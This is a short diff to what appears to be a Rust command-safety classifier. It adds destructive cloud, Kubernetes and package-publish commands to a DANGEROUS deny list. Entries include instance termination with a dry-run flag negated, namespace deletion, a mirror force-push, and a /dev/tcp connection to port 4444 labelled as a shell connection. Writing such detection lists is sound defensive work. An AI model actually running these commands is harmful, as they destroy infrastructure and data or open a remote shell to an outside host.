@@ -85,6 +85,12 @@ const DANGEROUS: &[(&str, &str)] = &[
         "pkg.untrusted-source",
     ),
     ("pulumi up -y", "iac.change"),
+    ("helm uninstall web -n --dry-run", "k8s.destroy"),
+    (
+        "aws ec2 terminate-instances --instance-ids i-1 --dry-run --no-dry-run",
+        "cloud.destroy",
+    ),
+    ("mvn clean deploy", "pkg.publish"),
     ("git push --mirror", "git.force-push"),
     ("kubectl delete ns/web", "k8s.destroy"),
     ("exec 5<>/dev/tcp/203.0.113.9/4444", "net.connect-shell"),
